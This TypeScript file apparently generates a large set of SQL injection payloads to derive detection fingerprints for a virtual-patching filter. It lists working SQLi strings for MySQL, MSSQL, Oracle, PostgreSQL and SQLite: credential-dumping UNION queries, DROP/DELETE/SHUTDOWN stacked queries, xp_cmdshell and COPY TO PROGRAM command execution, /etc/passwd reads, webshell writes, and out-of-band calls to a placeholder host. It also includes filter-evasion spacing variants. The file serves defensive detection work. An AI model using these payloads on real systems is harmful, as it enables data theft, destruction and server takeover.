/**
 * Attack payload generator for deriving the SQLi fingerprint set: injection points (numeric,
 * inside '...', inside "...", identifier) × attack bodies (tautologies, UNION, stacked queries,
 * time delays, error-based, boolean-blind, out-of-band, clause injection; MySQL, MSSQL,
 * Oracle, PostgreSQL, SQLite) × endings (comments, re-balanced quotes) × spacing variants.
 *
 * Every string here was written for vpatch. `{q}` stands for the quote of the injection point
 * (`'` at a numeric point), `{Q}` for the other quote.
 */

export interface GeneratedAttack {
  payload: string;
  /** Context the injection starts in: 0 none, 0x27 single quote, 0x22 double quote. */
  quote: number;
}

/** What comes after the breakout: an operand is already there (a number, a closed string). */
const AFTER_VALUE: string[] = [
  // tautologies and contradictions
  'OR 1=1', 'OR 1=1 LIMIT 1', 'OR 2>1', 'OR 1<2', 'OR 1', 'OR TRUE', 'OR NOT 0', 'OR NOT FALSE', 'OR 1 IS NOT NULL',
  'OR NULL IS NULL', 'OR {q}a{q}={q}a', 'OR {q}1{q}={q}1', 'OR {q}x{q}={q}x{q}', 'OR {q}{q}={q}', 'OR {q}a{q} LIKE {q}a',
  'OR 1 IN (1)', 'OR 1 BETWEEN 0 AND 2', 'OR 3-2=1', 'OR 0x41=0x41', 'OR CHAR(65)=CHAR(65)', 'OR ASCII({q}a{q})=97',
  'OR username IS NOT NULL', 'OR id=id', 'OR x=x', 'OR 1<>2', 'OR 1!=2', 'OR 1 LIKE 1', 'OR 1 RLIKE 1', 'OR 1 REGEXP 1',
  '|| 1=1', '|| 1', '|| {q}1{q}={q}1', 'OR -1=-1', 'OR 2 > 1', 'OR @@version', 'OR @a:=1', 'OR 1 SOUNDS LIKE 1',
  'AND 1=1', 'AND 1=2', 'AND 1', 'AND 0', 'AND FALSE', 'AND {q}a{q}={q}a', 'AND {q}a{q}={q}b', 'AND {q}1{q}={q}1',
  'AND 1 IN (SELECT 1)', 'AND NOT 1=2', '&& 1=1', '&& {q}a{q}={q}a', 'XOR 1', 'XOR 1=1', 'OR 1#', 'AND 1=1 AND {q}a{q}={q}a',
  'OR 1=1 OR {q}a{q}={q}a', 'AND 8=8', 'AND 526=527', 'OR 7=7', 'AND 7841=7841', 'OR 1 GROUP BY 1',
  // time based
  'AND SLEEP(5)', 'OR SLEEP(5)', 'AND SLEEP(5)=0', 'OR SLEEP(5)=0', 'AND (SELECT SLEEP(5))', 'AND (SELECT * FROM (SELECT(SLEEP(5)))a)',
  'AND BENCHMARK(5000000,MD5(1))', 'OR BENCHMARK(10000000,SHA1(1))', 'AND IF(1=1,SLEEP(5),0)', 'AND IF(SUBSTRING(user(),1,1)={q}r{q},SLEEP(5),0)',
  'AND PG_SLEEP(5)', 'AND 1=(SELECT 1 FROM PG_SLEEP(5))', 'OR 1=(SELECT 1 FROM PG_SLEEP(5))', 'AND (SELECT PG_SLEEP(5)) IS NULL',
  'AND 1=DBMS_PIPE.RECEIVE_MESSAGE({q}a{q},5)', 'AND DBMS_PIPE.RECEIVE_MESSAGE(CHR(65),5)=1', 'AND 1=LIKE({q}ABC{q},UPPER(HEX(RANDOMBLOB(500000000/2))))',
  'AND RANDOMBLOB(500000000)', 'WAITFOR DELAY {q}0:0:5{q}', 'WAITFOR DELAY {q}00:00:05{q}--', 'WAITFOR TIME {q}23:59:59{q}',
  'AND 1=(SELECT COUNT(*) FROM GENERATE_SERIES(1,5000000))', 'AND SLEEP(5) AND {q}a{q}={q}a', 'OR IF(1,SLEEP(5),0)',
  'RLIKE SLEEP(5)', 'AND ELT(1,SLEEP(5))', 'AND MAKE_SET(1,SLEEP(5))', 'OR PG_SLEEP(5)--', 'AND GET_LOCK({q}a{q},5)',
  // error based
  'AND EXTRACTVALUE(1,CONCAT(0x7e,VERSION()))', 'AND UPDATEXML(1,CONCAT(0x7e,USER()),1)', 'OR EXTRACTVALUE(1,CONCAT(0x5c,(SELECT DATABASE())))',
  'AND 1=CONVERT(INT,@@VERSION)', 'AND 1=CONVERT(INT,(SELECT TOP 1 name FROM sysobjects))', 'AND 1=CAST(VERSION() AS INT)',
  'AND CAST((SELECT version()) AS NUMERIC)=1', 'AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(VERSION(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)',
  'AND EXP(~(SELECT * FROM (SELECT USER())a))', 'AND GTID_SUBSET(CONCAT(0x7e,VERSION()),1)', 'AND JSON_KEYS((SELECT CONVERT((SELECT USER()) USING utf8)))',
  'AND 1=CTXSYS.DRITHSX.SN(1,(SELECT user FROM dual))', 'AND 1=UTL_INADDR.GET_HOST_ADDRESS((SELECT banner FROM v$version WHERE rownum=1))',
  'AND 1=(SELECT UPPER(XMLTYPE(CHR(60)||CHR(58)||(SELECT user FROM dual)||CHR(62))) FROM dual)', 'AND 1=1/0', 'AND (SELECT 1/0)',
  'AND ROW(1,1)>(SELECT COUNT(*),CONCAT(USER(),FLOOR(RAND(0)*2))x FROM (SELECT 1 UNION SELECT 2)a GROUP BY x LIMIT 1)',
  'AND ST_LATFROMGEOHASH(VERSION())', 'AND POLYGON((SELECT * FROM (SELECT * FROM (SELECT @@version)f)x))', 'AND NAME_CONST(VERSION(),1)',
  'OR 1 GROUP BY CONCAT(VERSION(),FLOOR(RAND(0)*2)) HAVING MIN(0)', 'AND 1=(SELECT CAST(table_name AS INT) FROM information_schema.tables LIMIT 1)',
  // boolean blind and inference
  'AND SUBSTRING(VERSION(),1,1)=5', 'AND SUBSTRING(@@version,1,1)={q}5', 'AND ASCII(SUBSTRING((SELECT USER()),1,1))>64', 'AND ASCII(SUBSTR(USER,1,1))>64',
  'AND (SELECT COUNT(*) FROM users)>0', 'AND LENGTH(DATABASE())=8', 'AND LEN(DB_NAME())>1', 'AND MID(USER(),1,1)={q}r', 'AND {q}a{q}=(SELECT {q}a{q})',
  'AND EXISTS(SELECT * FROM users)', 'AND ORD(MID((SELECT IFNULL(CAST(username AS CHAR),0x20) FROM users LIMIT 0,1),1,1))>64',
  'AND (SELECT SUBSTR(banner,1,1) FROM v$version WHERE rownum=1)={q}O', 'AND UNICODE(SUBSTRING((SELECT TOP 1 name FROM sys.databases),1,1))>64',
  'AND (SELECT sqlite_version()) LIKE {q}3%', 'AND (SELECT 1 FROM users LIMIT 1)=1', 'AND 1=(SELECT 1 FROM dual)', 'AND IFNULL(1,0)',
  'AND COALESCE(NULL,1)=1', 'AND NULLIF(1,2)', 'AND (SELECT TOP 1 password FROM users) LIKE {q}a%', 'AND STRCMP(USER(),{q}root@localhost{q})=0',
  'AND 1=(CASE WHEN 1=1 THEN 1 ELSE 0 END)', 'AND CASE WHEN (1=1) THEN 1 ELSE 1/0 END', 'OR (SELECT CASE WHEN 1=1 THEN 1 ELSE 0 END)=1',
  'AND user LIKE {q}%root%', 'AND database() LIKE {q}a%', 'AND current_user=current_user', 'AND SYSTEM_USER=SYSTEM_USER',
  'AND @@SERVERNAME IS NOT NULL', 'AND IS_SRVROLEMEMBER({q}sysadmin{q})=1', 'AND HAS_DBACCESS({q}master{q})=1',
  // out of band
  'AND LOAD_FILE(CONCAT({q}\\\\\\\\{q},VERSION(),{q}.x.example\\\\a{q}))', 'AND UTL_HTTP.REQUEST({q}http://x.example/{q}||USER)=1',
  'AND 1=(SELECT UTL_INADDR.GET_HOST_ADDRESS({q}x.example{q}) FROM dual)', 'AND (SELECT LOAD_FILE({q}/etc/passwd{q})) IS NOT NULL',
  'INTO OUTFILE {q}/var/www/x.php{q}', 'INTO DUMPFILE {q}/tmp/x{q}', 'AND LO_IMPORT({q}/etc/passwd{q})',
  // clause injection
  'ORDER BY 1', 'ORDER BY 10', 'ORDER BY 1 DESC', 'ORDER BY SLEEP(5)', 'ORDER BY (SELECT 1)', 'ORDER BY 1,2,3', 'GROUP BY 1',
  'GROUP BY 1 HAVING 1=1', 'GROUP BY username HAVING 1=1', 'HAVING 1=1', 'LIMIT 1', 'LIMIT 1,1', 'LIMIT 0,1 INTO @a', 'LIMIT 1 OFFSET 1',
  'PROCEDURE ANALYSE()', 'PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x7e,VERSION())),1)', 'FOR UPDATE', 'LIMIT 1 UNION SELECT 1',
  // union based
  'UNION SELECT 1', 'UNION SELECT 1,2', 'UNION SELECT 1,2,3', 'UNION SELECT NULL', 'UNION SELECT NULL,NULL', 'UNION ALL SELECT NULL',
  'UNION ALL SELECT NULL,NULL,NULL', 'UNION SELECT @@version', 'UNION SELECT USER(),2', 'UNION SELECT version(),user()',
  'UNION SELECT username,password FROM users', 'UNION SELECT * FROM users', 'UNION SELECT table_name FROM information_schema.tables',
  'UNION SELECT column_name FROM information_schema.columns WHERE table_name={q}users', 'UNION(SELECT 1)', 'UNION DISTINCT SELECT 1',
  'UNION SELECT {q}a{q}', 'UNION SELECT {q}a{q},{q}b', 'UNION SELECT username||password FROM users', 'UNION SELECT name FROM sysobjects',
  'UNION SELECT banner FROM v$version', 'UNION SELECT NULL FROM dual', 'UNION SELECT sql FROM sqlite_master', 'UNION SELECT tbl_name FROM sqlite_master',
  'UNION SELECT datname FROM pg_database', 'UNION SELECT LOAD_FILE({q}/etc/passwd{q})', 'UNION SELECT 0x3c3f706870 INTO OUTFILE {q}/tmp/a',
  'UNION SELECT GROUP_CONCAT(table_name) FROM information_schema.tables', 'UNION SELECT CHAR(97,98)', 'UNION ALL SELECT 1,@@version,3',
  'UNION SELECT 1 FROM dual WHERE 1=1', 'UNION SELECT TOP 1 name FROM master..sysdatabases', 'UNION SELECT 1;--', 'UNION VALUES(1)',
  'UNION SELECT CONCAT(username,0x3a,password) FROM users', 'UNION SELECT * FROM (SELECT 1)a JOIN (SELECT 2)b', 'UNION SELECT SLEEP(5)',
  'UNION ALL SELECT CONCAT(0x71,0x72),NULL', 'UNION SELECT current_user', 'UNION SELECT 1 WHERE 1=1', 'UNION SELECT NULL::text',
  'EXCEPT SELECT 1', 'INTERSECT SELECT 1', 'UNION SELECT 1 INTO @', 'UNION SELECT 1 ORDER BY 1',
  // stacked queries
  '; DROP TABLE users', '; DROP TABLE users--', '; SELECT 1', '; SELECT SLEEP(5)', '; SELECT PG_SLEEP(5)', '; WAITFOR DELAY {q}0:0:5{q}',
  '; EXEC xp_cmdshell({q}dir{q})', '; EXEC master..xp_cmdshell {q}ping x{q}', '; EXEC master.dbo.xp_dirtree {q}\\\\x.example\\a{q}',
  '; SHUTDOWN', '; SHUTDOWN WITH NOWAIT', '; INSERT INTO users VALUES(1,{q}a{q})', '; UPDATE users SET admin=1', '; DELETE FROM users',
  '; DECLARE @x VARCHAR(99)', '; DECLARE @s NVARCHAR(4000);SET @s=0x73656c656374;EXEC(@s)', '; CREATE TABLE x(a TEXT)', '; ALTER TABLE users ADD x INT',
  '; TRUNCATE TABLE logs', '; COPY (SELECT {q}{q}) TO PROGRAM {q}id{q}', '; CREATE OR REPLACE FUNCTION x() RETURNS void', '; EXEC sp_configure {q}show advanced options{q},1',
  '; ATTACH DATABASE {q}/tmp/x.php{q} AS x', '; SELECT LOAD_EXTENSION({q}x{q})', '; CALL x()', '; SET @a=1', '; GRANT ALL ON *.* TO x',
  '; BEGIN DBMS_LOCK.SLEEP(5); END', '; EXEC(CHAR(0x73))', '; IF(1=1) WAITFOR DELAY {q}0:0:5{q}', '; SELECT * FROM users', '; RECONFIGURE',
  '; EXECUTE IMMEDIATE {q}select 1{q}', '; DBCC CHECKDB', '; LOAD DATA INFILE {q}/etc/passwd{q} INTO TABLE x', '; PRAGMA table_info(users)',
  // operators continuing the expression
  '+SLEEP(5)', '-SLEEP(5)', '*SLEEP(5)', '+(SELECT 1)', '-(SELECT 1)', '=1', '=(SELECT 1)', '<>1', '+1-1', '/1', '*1', '-0', '^1', '|1',
  '+BENCHMARK(5000000,MD5(1))', '=SLEEP(5)', ' IN (SELECT 1)', ' LIKE {q}%', ' RLIKE (SELECT 1)', ' IS NULL', ' BETWEEN 1 AND 2',
  '||PG_SLEEP(5)', '||(SELECT 1)', '||(SELECT USER FROM dual)||', '+CHAR(0x41)+', '+(SELECT TOP 1 name FROM sysobjects)+',
  // misc dialect specific
  'OR 1=x', 'OR 1=id', 'AND (name = {q}x', 'GROUP BY CONCAT(VERSION(),FLOOR(RAND(0)*2)) HAVING MIN(0)', '(SELECT LOAD_FILE({q}x{q}))',
  'AND 1=(SELECT 1 FROM sqlite_master)', 'AND (SELECT 1 FROM pg_user LIMIT 1)=1', 'AND @@version_comment LIKE {q}%',
  'AND (SELECT 1 FROM mysql.user LIMIT 1)=1', 'AND 1=(SELECT COUNT(*) FROM msysobjects)', 'AND 1=1 AND 2=2',
  'AND 1=(SELECT 1 FROM DUAL WHERE 1=1)', 'AND 1=ROUND(1)', 'AND 0x31=0x31', 'AND b{q}1{q}=b{q}1', 'AND N{q}a{q}=N{q}a', 'AND x{q}41{q}=x{q}41',
  'AND $$a$$=$$a$$', 'AND 1::int=1', 'AND {fn USER()}={q}a', 'AND `id`=1', 'AND [id]=1', 'AND "a"="a"',
];

/** Payloads that replace the value entirely (the whole parameter is SQL). */
const WHOLE: string[] = [
  'SLEEP(5)', 'SLEEP(20)', 'PG_SLEEP(5)', 'BENCHMARK(1000000,MD5(1))', 'SELECT 1', 'SELECT SLEEP(5)', 'SELECT * FROM users',
  'SELECT user()', 'SELECT @@version', 'SELECT 1 FROM dual', 'SELECT version()', '(SELECT 1)', '(SELECT SLEEP(5))',
  '(SELECT * FROM (SELECT(SLEEP(5)))a)', 'IF(1=1,SLEEP(5),0)', 'EXTRACTVALUE(1,CONCAT(0x7e,VERSION()))', 'UPDATEXML(1,CONCAT(0x7e,USER()),1)',
  'ASCII(SUBSTRING(VERSION() FROM 1 FOR 1))', 'ASCII(SUBSTRING(USER(),1,1))>64', 'CHAR(65)', 'CONCAT(0x7e,VERSION())', 'VERSION()',
  'USER()', 'DATABASE()', 'CURRENT_USER', '@@version', 'LOAD_FILE({q}/etc/passwd{q})', 'WAITFOR DELAY {q}0:0:5{q}',
  'DROP TABLE users', 'INSERT INTO users VALUES(1)', 'UPDATE users SET role=1', 'DELETE FROM users WHERE 1=1', 'EXEC xp_cmdshell {q}dir{q}',
  'UNION SELECT 1', 'UNION ALL SELECT NULL', 'OR 1=1', '1 OR 1=1', '-1 OR 1=1', '1 AND 1=1', '1 AND SLEEP(5)', '1 UNION SELECT 1',
  '(CASE WHEN 1=1 THEN 1 ELSE 0 END)', 'CASE WHEN 1=1 THEN SLEEP(5) END', 'DBMS_PIPE.RECEIVE_MESSAGE(CHR(65),5)', 'NULL UNION SELECT 1',
  '1;SELECT 1', '1;DROP TABLE users', 'COUNT(*)', 'MD5(1)', 'HEX(VERSION())', 'CAST(1 AS CHAR)', 'CONVERT(INT,@@VERSION)',
  'GROUP_CONCAT(table_name)', 'IFNULL(1,0)', 'COALESCE(1,2)', 'RAND()', 'NOW()', 'SYSDATE()', 'UUID()', 'SCHEMA()', 'EXISTS(SELECT 1)',
  '1 RLIKE SLEEP(5)', '1 AND EXTRACTVALUE(1,CONCAT(0x7e,USER()))', '1) OR (1=1', '1)) OR ((1=1', '(1) OR (1)=(1)',
  '1 ORDER BY 1', '1 GROUP BY 1', '1 LIMIT 1', '1 PROCEDURE ANALYSE()', 'x OR 1=1', 'id OR 1=1', 'id=1 OR 1=1',
  '1 || 1=1', '1 && 1=1', '1 XOR 1', '1 DIV 0', '1 OR TRUE', 'TRUE OR TRUE', 'NULL OR 1', '@a:=1', '@@version LIKE {q}5%',
];

/** SQL expressions an attacker evaluates; combined with the lead-ins below. */
const EXPRS: string[] = [
  'SLEEP(5)', 'SLEEP(5 DIV 1)', 'SLEEP(10/2)', 'SLEEP({q}5{q})', 'BENCHMARK(1000000,MD5(1))', 'PG_SLEEP(5)', 'IF(1>1,{q}a{q},{q}b{q})',
  'IIF(1>1,{q}a{q},{q}b{q})', 'CHAR(113)', 'CHAR(113)+CHAR(118)', 'CHR(113)||CHR(118)', 'CONCAT(0x71,0x72)', 'ELT(1,1)',
  'VERSION()', '@@version', 'USER()', 'DATABASE()', 'CURRENT_USER', 'LOAD_FILE({q}/etc/passwd{q})',
  'LOAD_FILE(CONCAT({q}\\\\{q},VERSION(),{q}.x.example\\a{q}))', 'EXTRACTVALUE(1,CONCAT(0x7e,USER()))',
  'COUNT(*)', 'MID(VERSION(),1,1)', 'SUBSTRING(USER(),1,1)', 'ASCII(SUBSTRING(USER(),1,1))', 'CAST(1 AS INT)',
  'CONVERT(INT,(SELECT CHAR(113)))', '(SELECT 1)', '(SELECT(SLEEP(5)))', '(SELECT 1 FROM dual)', '(SELECT COUNT(*) FROM users)',
  '(SELECT CONCAT(0x71,(SELECT (CASE WHEN (1=1) THEN 1 ELSE 0 END))))', '(SELECT 4440 FROM(SELECT COUNT(*),CONCAT(0x71,FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)',
  '(SELECT UPPER(XMLTYPE(CHR(60)||CHR(58)||CHR(113))) FROM dual)', '(SELECT {q}a{q}||(SELECT (CASE WHEN 1=1 THEN 1 END)))',
  'UTL_INADDR.GET_HOST_NAME({q}x{q})', 'DBMS_PIPE.RECEIVE_MESSAGE(CHR(65),5)', 'RANDOMBLOB(1000000000)', 'LO_GET(16400)',
  'XMLTYPE({q}<x/>{q})', 'EXTRACTVALUE(XMLTYPE({q}<x/>{q}),{q}/l{q})',
];
const EXPR_LEADS = ['', 'SELECT ', 'AND ', 'OR ', '=', '+', '||', ',', 'UNION SELECT ', '; SELECT ', ' (SELECT ', 'IF EXISTS (SELECT 1) SELECT '];

/** Endings after the attack body. */
const ENDINGS_ANY = ['', ' --', ' -- -', '--', '#', ' #', '/*', ';', ';--', ' ;--', ' -- x'];
const ENDINGS_QUOTED = [' AND {q}a{q}={q}a', ' OR {q}a{q}={q}a', ' AND {q}1', ' {q}', '{q}', ' OR {q}'];

/** Breakouts: what closes the original literal (and maybe parentheses) before the attack. */
const BREAK_NUMERIC = ['1', '-1', '0', '1)', '1))', '1)))', '999999', '1.5', '0x1', 'NULL', '1 ', '(1)', '2020-03-01'];
const BREAK_IDENT = ['id', 'name', 'x', 'a.b', '`id`', '[id]', 'name)', 'x))'];
const BREAK_QUOTED = ['x{q}', '1{q}', '{q}', 'admin{q}', 'x{q})', 'x{q}))', '%{q}', 'a b{q}', 'x{q} ', '1{q})', 'x{q})))',
  // INSERT ... VALUES ('x', ...) contexts: close the literal, fill the row, close it
  'x{q}, 1)', 'x{q}, {q}a{q})', 'x{q},1,2)', 'x{q}, NULL)'];

function sub(s: string, q: string): string {
  const other = q === '"' ? "'" : '"';
  return s.replaceAll('{q}', q).replaceAll('{Q}', other);
}

/** Spacing variants of one payload: as written, comments for spaces, and no space next to punctuation. */
function spacings(p: string): string[] {
  const out = [p];
  out.push(p.replaceAll(' ', '/**/'));
  out.push(p.replaceAll(' ', '\t'));
  let tight = '';
  for (let i = 0; i < p.length; i++) {
    const ch = p[i]!;
    if (ch === ' ') {
      const a = p[i - 1] ?? '';
      const b = p[i + 1] ?? '';
      if (/[A-Za-z0-9_@$]/.test(a) && /[A-Za-z0-9_@$]/.test(b)) tight += ' ';
      continue;
    }
    tight += ch;
  }
  out.push(tight);
  // a space between a SQL-only function name and its parenthesis
  out.push(p.replace(/([A-Za-z]+_[A-Za-z_]+|EXTRACTVALUE|UPDATEXML|IFNULL|NULLIF|COALESCE|SUBSTRING|CONCAT|ASCII|UNHEX|MD5|SHA1)\(/gi, '$1 ('));
  // parentheses instead of spaces: SELECT(1)FROM(x)
  out.push(p.replace(/ ([A-Za-z@(][^ ]*)/g, '($1)'));
  return out;
}

function join(prefix: string, body: string): string {
  if (body.startsWith(';') || body.startsWith(' ') || prefix.endsWith(' ')) return prefix + body;
  if (/^[+\-*/=<>^|]/.test(body)) return prefix + body;
  return prefix + ' ' + body;
}

/** All generated attacks, deduplicated. */
export function generateTemplateAttacks(): GeneratedAttack[] {
  const seen = new Set<string>();
  const out: GeneratedAttack[] = [];
  const push = (payload: string, quote: number): void => {
    const key = quote + ':' + payload;
    if (seen.has(key)) return;
    seen.add(key);
    out.push({ payload, quote });
  };
  for (const [quote, q] of [
    [0x27, "'"],
    [0x22, '"'],
  ] as const) {
    for (const brk of BREAK_QUOTED) {
      for (const body of AFTER_VALUE) {
        for (const end of [...ENDINGS_ANY, ...ENDINGS_QUOTED]) {
          for (const v of spacings(join(brk, body) + end)) push(sub(v, q), quote);
        }
      }
    }
  }
  for (const brk of [...BREAK_NUMERIC, ...BREAK_IDENT]) {
    for (const body of AFTER_VALUE) {
      for (const end of ENDINGS_ANY) {
        for (const v of spacings(join(brk, body) + end)) push(sub(v, "'"), 0);
      }
    }
  }
  const exprBodies: string[] = [];
  for (const lead of EXPR_LEADS) for (const e of EXPRS) exprBodies.push(lead + e + (lead === ' (SELECT ' ? ')' : ''));
  for (const [quote, q] of [
    [0x27, "'"],
    [0x22, '"'],
  ] as const) {
    for (const brk of ['x{q}', '{q}', 'x{q})']) {
      for (const body of exprBodies) {
        for (const end of ['', ' --', '#', ' AND {q}1', '||{q}', '+{q}']) {
          for (const v of spacings(join(brk, body) + end)) push(sub(v, q), quote);
        }
      }
    }
  }
  for (const brk of ['', '1', '1)', 'x']) {
    for (const body of exprBodies) {
      if (brk === '' && /^[=+|,]/.test(body)) continue;
      for (const end of ['', ' --', '#', ';--']) {
        for (const v of spacings(brk === '' ? body + end : join(brk, body) + end)) push(sub(v, "'"), 0);
      }
    }
  }
  for (const body of WHOLE) {
    for (const end of ENDINGS_ANY) {
      for (const v of spacings(body + end)) push(sub(v, "'"), 0);
    }
  }
  return out;
}
